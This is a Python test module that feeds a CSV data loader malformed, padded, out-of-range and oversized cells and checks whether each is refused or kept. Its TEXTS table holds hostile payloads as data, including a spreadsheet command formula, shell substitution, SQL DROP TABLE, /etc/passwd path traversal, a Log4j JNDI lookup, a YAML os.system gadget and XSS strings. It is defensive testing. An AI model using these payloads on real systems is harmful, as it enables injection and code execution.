"""Cases about single cells: what is no number, what only looks so, what must be left alone."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime

from tests.hostile.cases import (
    CONTRACTS,
    PLAIN,
    Case,
    bad_cell,
    either,
    good_cell,
    refused,
    same,
)

AGE, INCOME, MALE, TOPIC = "Age", "Area Income", "Male", "Ad Topic Line"
NO_NUMBERS = {
    "space": " ",
    "spaces": "    ",
    "tab": "\t",
    "no_break_space": "\u00a0",
    "ideographic_space": "\u3000",
    "zero_width_space": "\u200b",
    "quoted_nothing": '""',
    "quoted_space": '" "',
    "na": "NA",
    "n_slash_a": "N/A",
    "hash_n_slash_a": "#N/A",
    "excel_error": "#DIV/0!",
    "excel_reference": "#REF!",
    "excel_hashes": "########",
    "nan": "NaN",
    "nan_lower": "nan",
    "nan_signed": "-nan",
    "nan_windows": "1.#QNAN",
    "inf_windows": "1.#INF",
    "null": "null",
    "null_upper": "NULL",
    "none": "None",
    "nil": "nil",
    "backslash_n": "\\N",
    "dot": ".",
    "minus": "-",
    "plus": "+",
    "dashes": "--",
    "question_mark": "?",
    "infinity": "inf",
    "infinity_long": "-Infinity",
    "infinity_sign": "\u221e",
    "word": "thirty",
    "unit": "33 years",
    "unit_close": "33y",
    "percent": "33%",
    "dollar": "$33",
    "euro": "33\u20ac",
    "currency_code": "USD 33",
    "underscore": "3_3",
    "thousands_underscore": "1_000",
    "hex": "0x21",
    "octal": "0o41",
    "binary": "0b100001",
    "hex_float": "0x1p3",
    "fortran": "3d1",
    "float_suffix": "33f",
    "long_suffix": "33L",
    "fullwidth": "\uff13\uff13",
    "arabic_indic": "\u0663\u0663",
    "devanagari": "\u0969\u0969",
    "thai": "\u0e53\u0e53",
    "mathematical": "\U0001d7d1\U0001d7d1",
    "superscript": "3\u00b3",
    "circled": "\u2462",
    "roman": "\u2169",
    "cjk": "\u4e09\u5341\u4e09",
    "fraction": "\u00bd",
    "keycap": "3\ufe0f\u20e3",
    "minus_sign": "\u22125",
    "en_dash": "\u20135",
    "accounting": "(33)",
    "minus_behind": "33-",
    "two_signs": "+-33",
    "two_plus": "++33",
    "space_after_sign": "- 33",
    "space_inside": "3 3",
    "thin_space_inside": "3\u2009300",
    "apostrophe_inside": "3'300",
    "decimal_comma": '"33,5"',
    "thousands_comma": '"1,033"',
    "thousands_and_decimal": '"1,033.5"',
    "german": '"1.033,50"',
    "two_points": "3.3.3",
    "point_point": "3..3",
    "arabic_decimal": "33\u066b5",
    "middle_dot": "33\u00b75",
    "exponent_alone": "e5",
    "exponent_empty": "3e",
    "exponent_sign_only": "3e+",
    "exponent_fraction": "3e1.5",
    "date": "2025-03-01",
    "date_us": "3/1/2025",
    "time": "10:30",
    "ratio": "1/2",
    "range": "30-39",
    "age_group": "30s",
    "above": ">33",
    "about": "~33",
    "true": "true",
    "true_upper": "TRUE",
    "yes": "yes",
    "formula": "=1+1",
    "formula_of_a_number": "=33",
    "formula_at": "@SUM(A1)",
    "text_prefix": "'33",
    "bracketed": "[33]",
    "json": '"{""age"": 33}"',
    "complex": "33+0j",
    "python": "int(33)",
    "quoted_newline": '"33\n"',
    "newline_inside": '"3\n3"',
    "nul_behind": "33\0",
    "nul_alone": "\0",
    "escape": "\x1b[31m33",
    "bell": "33\x07",
    "backspace": "34\x083",
    "zero_width_behind": "33\u200b",
    "bom_in_front": "\ufeff33",
    "bidi": "\u202e33",
    "word_joiner": "3\u20603",
    "variation_selector": "33\ufe0f",
    "combining": "33\u0301",
    "soft_hyphen": "33\u00ad",
    "emoji": "\U0001f600",
    "template": "{{ 30 + 3 }}",
    "shell": "$((30+3))",
    "markup": "<b>33</b>",
    "entity": "&#51;&#51;",
    "percent_encoded": "%33%33",
    "backslash_escape": "\\x33",
    "noncharacter": "33\uffff",
    "replacement": "3\ufffd",
    "uuid": "123e4567-e89b-12d3-a456-426614174000",
    "very_long_digits": "3" * 5000,
    "long_text": "x" * 50_000,
}
# Taken by nobody's eye for another number; a door may be stricter, but never take another value.
PADDED = {
    "space_in_front": " 33",
    "space_behind": "33 ",
    "tab_behind": "33\t",
    "no_break_space_behind": "33\u00a0",
    "quoted_space_in_front": '" 33"',
    "leading_zero": "033",
    "leading_zeros": "000000000000000000000000033",
    "plus": "+33",
    "point_and_zero": "33.0",
    "exponent": "33e0",
    "vertical_tab": "\v33",
}
TEXTS = {
    "formula": "=1+1",
    "formula_command": "=cmd|'/c calc'!A0",
    "formula_link": '"=HYPERLINK(""http://example.com"",""x"")"',
    "formula_at": "@SUM(1;2)",
    "formula_plus": "+1+1",
    "formula_minus": "-1+1",
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "entity": "&lt;&amp;&#0;",
    "jinja": "{{ 7*7 }}{% for x in y %}",
    "jinja_class": "{{ ''.__class__.__mro__ }}",
    "python_format": "{0.__class__} %s %(x)s %n",
    "shell": "$(touch /tmp/x)`id`;|&",
    "ansi": "\x1b[31mred\x1b[0m",
    "ansi_title": "\x1b]0;owned\x07",
    "ansi_eight_bit": "\x9b31m",
    "carriage_return": '"a\rb"',
    "backspaces": "abc\x08\x08\x08",
    "delete": "a\x7fb",
    "bidi_override": "\u202egnp.exe",
    "bidi_isolates": "\u2066a\u2069\u2067b\u2069",
    "zero_width": "a\u200b\u200c\u200d\ufeffb",
    "right_to_left": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f3f3\ufe0f\u200d\U0001f308",
    "astral": "\U0001f600\U00020000\U0010ffff",
    "combining": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334",
    "noncharacters": "\ufffe\uffff\ufdd0",
    "private": "\ue000\uf8ff",
    "separators": "\u2028\u2029\u0085",
    "tags": "\U000e0041\U000e0042\U000e007f",
    "nul": "a\0b",
    "control_characters": "\x01\x02\x03\x1f",
    "sql": "'; DROP TABLE runs; --",
    "path": "../../../etc/passwd",
    "log4j": "${jndi:ldap://example.com/a}",
    "xml_bomb": "<!DOCTYPE x [<!ENTITY a 'b'>]>",
    "yaml": "!!python/object/apply:os.system ['id']",
    "pickle": "cos\nsystem\n",
    "json": '"{""a"": [1, 2]}"',
    "missing_word": "NaN",
    "null": "\\N",
    "boolean": "true",
    "number": "1e400",
    "date": "1970-01-01T00:00:00Z",
    "spaces": "   ",
    "tab": "\t",
    "empty": "",
    "log_line": '"2025-01-01T00:00:00Z ERROR faked"',
    "long": "x" * 200_000,
    "long_quoted": '"' + 'a,""b"" \n' * 20_000 + '"',
    "not_normal": "e\u0301 \u00e9 \ufb01 \u212b",
    "turkish": "\u0130\u0131",
    "sharp_s": "\u1e9e\u00df",
}


def cases() -> list[Case]:
    """Return the cases of this theme."""
    return [
        *no_numbers(), *missing_cells(), *padded(), *ranges(), *large_integers(),
        *written_otherwise(),
        *unused_texts(), *category_texts(), *times(), *good_times(), *several(), *large(),
    ]  # fmt: skip


def no_numbers() -> Iterator[Case]:
    """Cells of an integer feature and of a number feature that are none."""
    for name, written in NO_NUMBERS.items():
        safe = '"' + written + '"' if "\n" in written and '"' not in written else written
        yield bad_cell(f"integer_{name}", AGE, safe)
        yield bad_cell(f"number_{name}", INCOME, safe)
    for name, written in (
        ("fraction", "33.5"), ("third", "33.3333"), ("exponent_down", "33e-1"),
        ("comma", '"33,0"'), ("thousand_point", "1.000.000"),
    ):  # fmt: skip
        yield bad_cell(f"integer_{name}_not_whole", AGE, written)


def missing_cells() -> Iterator[Case]:
    """Cells that hold nothing, where nothing may be missing, and where it may."""
    for column in ("Daily Time Spent on Site", AGE, INCOME, MALE, "Clicked on Ad"):
        yield bad_cell(f"empty_{'_'.join(column.lower().split())}", column, "", "missing")
    yield refused(
        "column_empty_throughout", "a feature's cells are all empty",
        "\n".join(
            [PLAIN.lines()[0]]
            + [",".join((row[0], "", *row[2:])) for row in PLAIN.rows]
        ) + "\n",
        "missing", line=2, column=AGE,
    )  # fmt: skip
    yield good_cell("gap_imputed", "age", "", None, contract="gaps")
    yield good_cell("gap_imputed_na", "age", "NA", None, contract="gaps")
    yield good_cell("gap_indicated", "device", "", None, contract="gaps")
    yield bad_cell("gap_word_that_is_not_listed", "age", "N/A", contract="gaps")
    yield either("gap_of_spaces", "spaces, where an empty cell is missing",
                 CONTRACTS["gaps"][1].cell(5, "age", "  ").text(), contract="gaps", line=5,
                 column="age", holds=((3, "age", None),))  # fmt: skip
    yield bad_cell("gap_nan_is_not_listed", "spent", "NaN", contract="gaps")
    yield bad_cell("gap_in_another_case", "age", "na", contract="gaps")
    yield bad_cell("gap_in_the_target", "bought", "", contract="gaps")
    yield bad_cell("gap_in_the_group", "visitor", "", contract="gaps")
    yield bad_cell("gap_in_the_time", "when", "", contract="gaps")
    yield bad_cell("gap_empty_is_not_listed", "age", "", contract="gapless")
    sheet = CONTRACTS["gaps"][1]
    yield same("gap_dropped", "a row with a gap is dropped and counted",
               sheet.cell(5, "spent", "").text(), contract="gaps", without=(3,), dropped=1,
               )  # fmt: skip
    for line in range(2, 7):
        sheet = sheet.cell(line, "spent", "NA")
    yield refused("gaps_dropped_too_many", "more rows have a gap than may be dropped",
                  sheet.text(), contract="gaps")  # fmt: skip
    yield good_cell("category_named_like_a_gap", "device", "None", "None", contract="gaps")


def padded() -> Iterator[Case]:
    """Numbers with something around them that a strict door refuses."""
    for name, written in PADDED.items():
        for kind, column, value in (("integer", AGE, 33), ("number", INCOME, 33.0)):
            sheet = PLAIN.cell(5, column, written)
            yield either(
                f"{kind}_padded_{name}", f"{column} holds {written!r}", sheet.text(),
                line=5, column=column, holds=((3, column, value),),
            )  # fmt: skip


def ranges() -> Iterator[Case]:
    """Numbers beyond what the contract or the machine can hold."""
    for name, column, written in (
        ("below_the_minimum", AGE, "-1"), ("above_the_maximum", AGE, "121"),
        ("far_below", AGE, "-999"), ("nines", AGE, "9999"),
        ("two_to_the_63", AGE, "9223372036854775808"), ("two_to_the_64", AGE, str(2**64 + 33)),
        ("below_int64", AGE, "-9223372036854775809"), ("integer_of_25_digits", AGE, "1" * 25),
        ("number_below", INCOME, "-0.01"), ("number_far_below", INCOME, "-1e300"),
        ("number_overflow", INCOME, "1e400"), ("number_overflow_down", INCOME, "-1e400"),
        ("number_overflow_digits", INCOME, "9" * 400), ("number_huge_exponent", INCOME, "1e99999"),
        ("number_underflow", INCOME, "1e-400"), ("number_deep_underflow", INCOME, "1e-99999"),
        ("number_underflow_of_zeros", INCOME, f"0.{'0' * 330}1"),
        ("number_underflow_of_both", INCOME, f"0.{'0' * 250}1e-99"),
        ("number_underflow_of_both_again", INCOME, f"0.{'0' * 295}1E-0040"),
        ("number_above", "Daily Internet Usage", "1440.0001"),
        ("number_just_above", "Daily Internet Usage", "1440.0000000000003"),
        ("flag_two", MALE, "2"), ("flag_minus", MALE, "-1"), ("flag_fraction", MALE, "0.5"),
        ("flag_word", MALE, "male"), ("flag_letter", MALE, "M"), ("flag_true", MALE, "True"),
        ("flag_yes", MALE, "yes"), ("flag_double", MALE, "11"),
    ):  # fmt: skip
        yield bad_cell(f"range_{name}", column, written)
    for name, column, written, value in (
        ("zero", AGE, "0", 0), ("maximum", AGE, "120", 120), ("zero_number", INCOME, "0", 0.0),
        ("number_maximum", "Daily Internet Usage", "1440", 1440.0),
        ("large_number", INCOME, "1e300", 1e300),
        ("largest_number", INCOME, "1.7976931348623157e308", 1.7976931348623157e308),
    ):  # fmt: skip
        yield good_cell(f"limit_{name}", column, written, value)
    for name, column, written, value in (
        ("minus_zero", AGE, "-0", 0), ("minus_zero_number", INCOME, "-0.0", 0.0),
        ("subnormal", INCOME, "5e-324", 5e-324), ("number_of_25_digits", INCOME, "1" * 25, 1.1e24),
    ):  # fmt: skip
        value = float(written) if name == "number_of_25_digits" else value
        yield either(
            f"limit_{name}", f"{column} holds {written}", PLAIN.cell(5, column, written).text(),
            line=5, column=column, holds=((3, column, value),),
        )  # fmt: skip
    for name, written in (
        ("two_to_the_53_plus_1", "9007199254740993"), ("int64_maximum", "9223372036854775807"),
    ):  # fmt: skip
        yield bad_cell(f"range_integer_{name}", AGE, written)


def large_integers() -> Iterator[Case]:
    """Integers that a number of 64 bits with a fraction cannot hold."""
    for name, written in (
        ("beyond_double", str(2**53 + 1)), ("of_18_digits", "9" * 18), ("padded", f" {2**53 + 1} "),
        ("signed", f"+{2**53 + 1}"), ("quoted", f'"{2**53 + 1}"'), ("negative", f"-{2**53 + 1}"),
        ("leading_zeros", f"{'0' * 30}{2**53 + 1}"),
    ):  # fmt: skip
        yield good_cell(f"integer_{name}_kept", "count", written, int(written.strip(' "')),
                        contract="counts")  # fmt: skip
    for name, written in (("of_25_digits", "1" * 25), ("two_to_the_63", str(2**63))):
        yield bad_cell(f"integer_{name}_refused", "count", written, contract="counts")


def written_otherwise() -> Iterator[Case]:
    """Numbers in another of the usual ways to write them."""
    for name, written, value in (
        ("exponent", "5e4", 5e4), ("exponent_upper", "5E4", 5e4), ("exponent_plus", "5e+4", 5e4),
        ("exponent_minus", "5000000e-2", 5e4), ("no_leading_zero", ".5", 0.5),
        ("no_fraction", "5.", 5.0), ("trailing_zeros", "5.50000000000000000000", 5.5),
        ("many_digits", "0.1000000000000000055511151231257827", 0.1), ("plus", "+5.5", 5.5),
        ("half_way", "0.30000000000000004", 0.30000000000000004), ("integer", "5", 5.0),
        ("quoted", '"5.5"', 5.5), ("leading_zero", "05.5", 5.5), ("zero_exponent", "0e5", 0.0),
    ):  # fmt: skip
        yield good_cell(f"number_written_{name}", INCOME, written, value)


def unused_texts() -> Iterator[Case]:
    """Whatever stands in a column that is not used is nobody's business."""
    for name, text in TEXTS.items():
        written = '"' + text + '"' if "\n" in text and '"' not in text else text
        yield same(f"unused_{name}", "an unused cell holds what may harm a reader of it",
                   PLAIN.cell(7, TOPIC, written).text())  # fmt: skip
    for name, written in (
        ("date", "31.02.2025"), ("empty", ""), ("word", "never"), ("number", "0"),
        ("formula", "=NOW()"),
    ):  # fmt: skip
        yield same(f"unused_timestamp_{name}", "an unused column is not checked",
                   PLAIN.cell(7, "Timestamp", written).text())  # fmt: skip


def category_texts() -> Iterator[Case]:
    """A category's cells are kept exactly, whatever they hold."""
    for name, text in TEXTS.items():
        if name in ("empty", "long", "long_quoted", "nul"):
            continue
        value = text[1:-1].replace('""', '"') if text.startswith('"') else text
        written = '"' + text + '"' if "\n" in text and '"' not in text else text
        sheet = CONTRACTS["shop"][1].cell(5, "device", written)
        make = same if value.isprintable() and value.strip() == value else either
        yield make(
            f"category_{name}", "a category's cell holds what may harm a reader of it",
            sheet.text(), contract="shop", holds=((3, "device", value),), line=5, column="device",
        )  # fmt: skip
    yield bad_cell("category_empty", "device", "", "missing", contract="shop")
    yield either(
        "category_nul", "a category's cell holds NUL",
        CONTRACTS["shop"][1].cell(5, "device", "a\0b").text(), contract="shop",
        holds=((3, "device", "a\0b"),), line=5, column="device",
    )  # fmt: skip
    yield good_cell("words_formula", "words", "=1+1", "=1+1", contract="shop")
    yield good_cell("words_markup", "words", "<b>{{ x }}</b>", "<b>{{ x }}</b>", contract="shop")


def times() -> Iterator[Case]:
    """Cells of a time column."""
    for name, written in (
        ("us", "03/04/2025"), ("german", "04.03.2025"), ("words", '"March 4, 2025"'),
        ("two_digits", "25-03-04"), ("february_30", "2025-02-30"), ("february_29", "2025-02-29"),
        ("month_13", "2025-13-01"), ("hour_25", "2025-03-04T25:00:00"),
        ("minute_60", "2025-03-04T10:60:00"), ("year_zero", "0000-01-01"),
        ("year_10000", "10000-01-01"), ("epoch", "1741082400"), ("epoch_float", "1741082400.5"),
        ("excel_serial", "45720"), ("empty_quotes", '""'), ("word", "yesterday"),
        ("offset_among_naive", "2025-03-04T10:00:00+02:00"), ("z_among_naive",
        "2025-03-04T10:00:00Z"), ("offset_too_large", "2025-03-04T10:00:00+25:00"),
        ("zone_name", "2025-03-04 10:00:00 CET"), ("negative_year", "-2025-03-04"),
        ("fullwidth", "\uff12025-03-04"), ("slashes", "2025/03/04"), ("nat", "NaT"),
        ("time_only", "10:00:00"), ("behind", "2025-03-04x"), ("infinity", "infinity"),
        ("quarter", "2025-Q1"), ("am_pm", "2025-03-04 10:00 PM"),
    ):  # fmt: skip
        yield bad_cell(f"time_{name}", "when", written, contract="shop")


def good_times() -> Iterator[Case]:
    """Cells of a time column that say when, in another of the ways of ISO 8601."""
    for name, written, value, make in (
        ("date_alone", "2025-03-04", "2025-03-04T00:00:00", same),
        ("fraction", "2025-03-04T10:00:00.5", "2025-03-04T10:00:00.500000", same),
        ("microseconds", "2025-03-04T10:00:00.000001", "2025-03-04T10:00:00.000001", same),
        ("space", "2025-03-04 10:00:00", "2025-03-04T10:00:00", same),
        ("leap_day", "2024-02-29", "2024-02-29T00:00:00", same),
        ("before_1970", "1969-12-31T23:59:59", "1969-12-31T23:59:59", same),
        ("year_1", "0001-01-01", "0001-01-01T00:00:00", either),
        ("year_9999", "9999-12-31T23:59:59", "9999-12-31T23:59:59", either),
        ("no_seconds", "2025-03-04T10:00", "2025-03-04T10:00:00", either),
        ("basic", "20250304T100000", "2025-03-04T10:00:00", either),
        ("week", "2025-W10-2", "2025-03-04T00:00:00", either),
        ("midnight_24", "2025-03-04T24:00:00", "2025-03-05T00:00:00", either),
        ("leap_second", "2016-12-31T23:59:60", "2017-01-01T00:00:00", either),
        ("lower_t", "2025-03-04t10:00:00", "2025-03-04T10:00:00", either),
        ("comma", '"2025-03-04T10:00:00,5"', "2025-03-04T10:00:00.500000", either),
        ("padded", " 2025-03-04T10:00:00 ", "2025-03-04T10:00:00", either),
    ):
        yield make(
            f"time_written_{name}", f"a time written {written}",
            CONTRACTS["shop"][1].cell(5, "when", written).text(), contract="shop",
            holds=((3, "when", datetime.fromisoformat(value)),), line=5, column="when",
        )  # fmt: skip
    sheet = CONTRACTS["shop"][1]
    holds = []
    for line in range(2, 14):
        sheet = sheet.cell(line, "when", f"2025-03-{line:02}T12:00:00+02:00")
        holds.append((line - 2, "when", datetime(2025, 3, line, 10, tzinfo=UTC)))
    yield same("time_with_offset_throughout", "each time has an offset", sheet.text(),
               contract="shop", holds=tuple(holds))  # fmt: skip
    yield refused(
        "time_naive_among_offsets", "one time of many lacks its offset",
        sheet.cell(7, "when", "2025-03-04T10:00:00").text(), contract="shop", line=7,
        column="when",
    )  # fmt: skip


def several() -> Iterator[Case]:
    """More than one bad cell: the first is named, all are counted."""
    sheet = PLAIN
    for line in range(2, 14):
        sheet = sheet.cell(line, AGE, "old").cell(line, MALE, "2")
    yield refused("every_row_is_bad", "two bad cells in each row", sheet.text(), line=2, column=AGE)
    header, row = PLAIN.lines()[0], ",".join(PLAIN.cell(2, AGE, "old").rows[0])
    yield refused(
        "three_thousand_bad_rows", "more bad rows than are listed",
        lambda: "\n".join([header, *([row] * 3000)]).encode(), "2999", line=2, column=AGE,
    )  # fmt: skip
    yield refused(
        "bad_cell_far_down", "a bad cell behind 100000 good rows",
        lambda: "\n".join([header, *(PLAIN.lines()[1:] * 8334), row]).encode(),
        line=100_010, column=AGE,
    )  # fmt: skip
    yield refused(
        "integers_end_far_down", "an integer column holds a fraction behind 100000 good rows",
        lambda: "\n".join([header, *(PLAIN.lines()[1:] * 8334), row.replace("old", "30.5")]
                          ).encode(), line=100_010, column=AGE,
    )  # fmt: skip


def large() -> Iterator[Case]:
    """Cells of many megabytes."""
    long = b"x" * 10_000_000

    def with_cell(column: str, cell: bytes) -> bytes:
        return PLAIN.cell(7, column, "@@").text().encode().replace(b"@@", cell)

    yield either("field_10mb_unused", "an unused cell of 10 MB",
                 lambda: with_cell(TOPIC, long), line=7, heavy=True)  # fmt: skip
    yield either("field_10mb_quoted", "a quoted, unused cell of 10 MB of quotes",
                 lambda: with_cell(TOPIC, b'"' + b'""' * 5_000_000 + b'"'), line=7, heavy=True,
                 )  # fmt: skip
    yield refused("field_10mb_feature", "a feature's cell of 10 MB",
                  lambda: with_cell(AGE, long), line=7, heavy=True)  # fmt: skip
    yield refused("field_10mb_digits", "a feature's cell of 10 million digits",
                  lambda: with_cell(INCOME, b"3" * 10_000_000), line=7, heavy=True)  # fmt: skip
    yield refused("field_10mb_target", "a target of 10 MB",
                  lambda: with_cell("Clicked on Ad", b"0" * 10_000_000), line=7, heavy=True,
                  )  # fmt: skip
    yield refused("field_10mb_header", "a name of 10 MB",
                  lambda: PLAIN.text().encode().replace(b"Age", long, 1), line=1, heavy=True,
                  )  # fmt: skip
    yield refused("field_100mb_unclosed", "a quote that 100 MB do not close",
                  lambda: with_cell(TOPIC, b'"' + long * 10), line=7, heavy=True)  # fmt: skip
